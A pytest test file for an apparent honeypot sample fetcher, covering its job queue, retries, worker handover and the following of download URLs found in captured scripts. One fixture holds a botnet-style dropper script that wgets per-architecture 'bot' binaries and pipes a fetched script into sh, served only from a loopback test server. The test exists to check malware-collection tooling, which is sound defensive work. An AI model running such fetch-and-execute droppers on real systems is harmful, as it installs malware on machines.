# SPDX-License-Identifier: Apache-2.0
"""The central fetcher with a real bus: jobs wait, are followed, and outlive the fetcher that held them."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from mead.bus.bodies import BodySender
from mead.bus.client import Bus
from mead.bus.events import EventReader
from mead.bus.publisher import Publisher
from mead.bus.queue import Job, WorkQueue
from mead.bus.reaper import Reaper
from mead.bus.server import NatsServer
from mead.bus.streams import StreamSettings
from mead.clock import SystemClock
from mead.deck.fetching import FetchWorker
from mead.deck.jobs import FetchJob, buried
from mead.egress.policy import EgressSettings
from mead.egress.result import Request

SHORT = StreamSettings(ack_wait_seconds=1, events_bytes=32 << 20, bodies_bytes=32 << 20, queue_bytes=8 << 20)
PATIENCE_SECONDS = 60


class Web:
    """A web server on loopback; what is not `served` is refused with 404."""

    def __init__(self) -> None:
        self.served: dict[str, bytes] = {}
        self.asked: list[str] = []
        self.base = ""

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        path = (await reader.readuntil(b"\r\n\r\n")).split()[1].decode()
        self.asked.append(path)
        body = self.served.get(path)
        head = b"HTTP/1.1 404 No\r\n" if body is None else b"HTTP/1.1 200 OK\r\n"
        writer.write(head + b"Content-Length: %d\r\n\r\n" % len(body or b"") + (body or b""))
        await writer.drain()
        writer.close()


@pytest.fixture
async def web() -> AsyncIterator[Web]:
    web = Web()
    server = await asyncio.start_server(web.answer, "127.0.0.1", 0)
    web.base = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    async with server:
        yield web


@pytest.fixture
async def bus(tmp_path: Path) -> AsyncIterator[Bus]:
    async with NatsServer(tmp_path / "bus") as server, Bus.connect(server.credentials, settings=SHORT) as bus:
        yield bus


@asynccontextmanager
async def _working(bus: Bus, name: str = "w1", **options: Any) -> AsyncIterator[None]:
    """A fetcher at work until the block ends; then it is stopped as SIGTERM stops it."""
    quick: dict[str, Any] = {
        "allow_loopback_for_tests": True,
        "per_host_per_minute": 10_000,
        "per_network_per_minute": 10_000,
    }
    settings = EgressSettings(**quick | {"retry_seconds": [0.05, 0.05]} | options)
    async with Publisher(bus, name) as publisher:
        worker = FetchWorker(WorkQueue(bus, "fetch"), BodySender(bus), publisher, settings, SystemClock())
        task = asyncio.create_task(worker.run())
        try:
            yield
        finally:
            task.cancel()
            with suppress(asyncio.CancelledError):
                await task


async def _events(bus: Bus, name: str = "w1") -> list[Any]:
    info = await bus.stream_info(f"EVENTS_{name}")
    if info is None:
        return []
    async with EventReader(bus, f"EVENTS_{name}") as reader:
        batches = [await anext(reader) for _ in range(info.state.messages)]
    return [event for batch in batches for event in batch.events]


async def _until(condition: Callable[[], Any]) -> None:
    async with asyncio.timeout(PATIENCE_SECONDS):
        while not await condition():
            await asyncio.sleep(0.02)


async def _submit(bus: Bus, *urls: str) -> WorkQueue:
    queue = WorkQueue(bus, "fetch")
    for number, url in enumerate(urls, start=1):
        request = Request(url=url, offer=f"q-{number}", sensor="far", session="q", user_agent="Wget")
        await queue.submit(FetchJob(request=request).job())
    return queue


async def test_offers_wait_for_the_fetcher_and_are_followed_under_their_session(bus: Bus, web: Web) -> None:
    web.served["/a"] = b"body of a"
    queue = await _submit(bus, f"{web.base}/a", f"{web.base}/gone")
    assert await queue.length() == 2
    async with _working(bus):
        await _until(lambda: _empty(queue))
    events = await _events(bus)
    assert {(event.sensor, event.session) for event in events} == {("far", "q")}
    done = next(event for event in events if event.kind == "fetch.done")
    sample = next(event for event in events if event.kind == "sample.captured")
    assert done.sha256 == sample.sha256 == sha256(b"body of a").hexdigest()
    assert (sample.name, sample.offer, sample.how) == ("a", "q-1", "fetch")
    failed = [(event.attempt, event.final) for event in events if event.kind == "fetch.failed"]
    assert failed == [(1, False), (2, False), (3, True)]


async def _empty(queue: WorkQueue) -> bool:
    return await queue.length() == 0


async def test_a_script_is_followed_to_every_body_that_it_names(bus: Bus, web: Web) -> None:
    base = web.base.encode()
    loop = b"for a in arm mips; do wget %s/bot.$a; done; wget %s/more.sh -O- | sh\n" % (base, base)
    web.served["/bins.sh"] = b"#!/bin/sh\n" + loop
    web.served["/more.sh"] = b"#!/bin/sh\ncurl -O %s/bot.x86\n" % base
    for name in ("arm", "mips", "x86"):
        web.served[f"/bot.{name}"] = f"body of {name}".encode()
    queue = await _submit(bus, f"{web.base}/bins.sh")
    async with _working(bus):
        await _until(lambda: _empty(queue))
    events = await _events(bus)
    offers = {event.url.removeprefix(web.base): event for event in events if event.kind == "offer.seen"}
    assert {path: offer.depth for path, offer in offers.items()} == {
        "/bot.arm": 1, "/bot.mips": 1, "/more.sh": 1, "/bot.x86": 2,
    }  # fmt: skip
    assert offers["/bot.x86"].offer == f"{offers['/more.sh'].offer}.1"
    got = {event.name for event in events if event.kind == "sample.captured"}
    assert got == {"bins.sh", "more.sh", "bot.arm", "bot.mips", "bot.x86"}
    assert {event.session for event in events} == {"q"}


async def test_the_offers_below_one_are_bounded(bus: Bus, web: Web) -> None:
    web.served["/s.sh"] = b"#!/bin/sh\nwget %s/a; wget %s/b; wget %s/c\n" % ((web.base.encode(),) * 3)
    queue = WorkQueue(bus, "fetch")
    request = Request(url=f"{web.base}/s.sh", offer="q-1", sensor="far", session="q")
    await queue.submit(FetchJob(request=request, room=2).job())
    async with _working(bus, retry_seconds=[]):
        await _until(lambda: _empty(queue))
    events = await _events(bus)
    assert [event.url.rpartition("/")[2] for event in events if event.kind == "offer.seen"] == ["a", "b"]
    assert [(event.limit, event.limit_value) for event in events if event.kind == "limit.reached"] == [
        ("fetch.offers_below_one", 2)
    ]


async def test_a_fetcher_that_is_stopped_gives_the_rest_back(bus: Bus, web: Web) -> None:
    queue = await _submit(bus, f"{web.base}/later")
    async with _working(bus, "w1", retry_seconds=[60.0, 0.05]):
        await _until(lambda: _asked(web, 1))
        await _until(lambda: _told(bus, "w1", 1))
    assert await queue.length() == 1
    web.served["/later"] = b"body"
    async with _working(bus, "w2"):
        await _until(lambda: _empty(queue))
    first, second = await _events(bus, "w1"), await _events(bus, "w2")
    assert [(event.kind, event.attempt, event.final) for event in first] == [("fetch.failed", 1, False)]
    assert [(event.kind, getattr(event, "attempt", 2)) for event in second] == [
        ("fetch.done", 2), ("sample.captured", 2),
    ]  # fmt: skip


async def _asked(web: Web, count: int) -> bool:
    return len(web.asked) >= count


async def _told(bus: Bus, name: str, count: int) -> bool:
    return len(await _events(bus, name)) >= count


async def test_offers_that_wait_for_their_next_attempt_hold_up_nobody(bus: Bus, web: Web) -> None:
    web.served["/good"] = b"body"
    await _submit(bus, *(f"{web.base}/dead{n}" for n in range(40)), f"{web.base}/good")
    async with _working(bus, retry_seconds=[60.0, 60.0]):
        await _until(lambda: _asked(web, 41))
    assert "/good" in web.asked


async def test_a_job_that_cannot_be_read_is_removed(bus: Bus, caplog: pytest.LogCaptureFixture) -> None:
    queue = WorkQueue(bus, "fetch")
    await queue.submit(Job(kind="fetch", sha256="a" * 64, detail="no offer"))
    async with _working(bus):
        await _until(lambda: _empty(queue))
    assert "cannot be read and was removed: 'no offer'" in caplog.text


async def test_a_fault_of_ours_ends_one_job_and_not_the_fetcher(
    bus: Bus, web: Web, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(body: bytes, request: Request) -> list[Request]:
        raise RuntimeError("ours")

    monkeypatch.setattr("mead.deck.fetching.offers_of", broken)
    web.served["/a"] = b"body"
    queue = await _submit(bus, f"{web.base}/a", f"{web.base}/gone")
    async with _working(bus):
        await _until(lambda: _length(queue, 1))
        await _until(lambda: _asked(web, 4))
    assert "a fetch job failed" in caplog.text


async def _length(queue: WorkQueue, length: int) -> bool:
    return await queue.length() == length


async def test_an_offer_that_kills_every_fetcher_ends_as_a_failed_fetch(bus: Bus) -> None:
    queue = await _submit(bus, "http://192.0.2.1/x")
    reaper = Reaper(bus, "hub", epitaph=buried)
    burying = asyncio.create_task(reaper.run())
    async with queue.consume() as leases:
        async with asyncio.timeout(PATIENCE_SECONDS):
            while not reaper.buried:
                await leases.next(0.1)  # and fall silent
    burying.cancel()
    (event,) = await _events(bus, "hub")
    assert (event.kind, event.offer, event.session, event.final) == ("fetch.failed", "q-1", "q", True)
    assert event.reason.startswith("given up after 3 attempts: its worker died")
    assert await queue.length() == 0
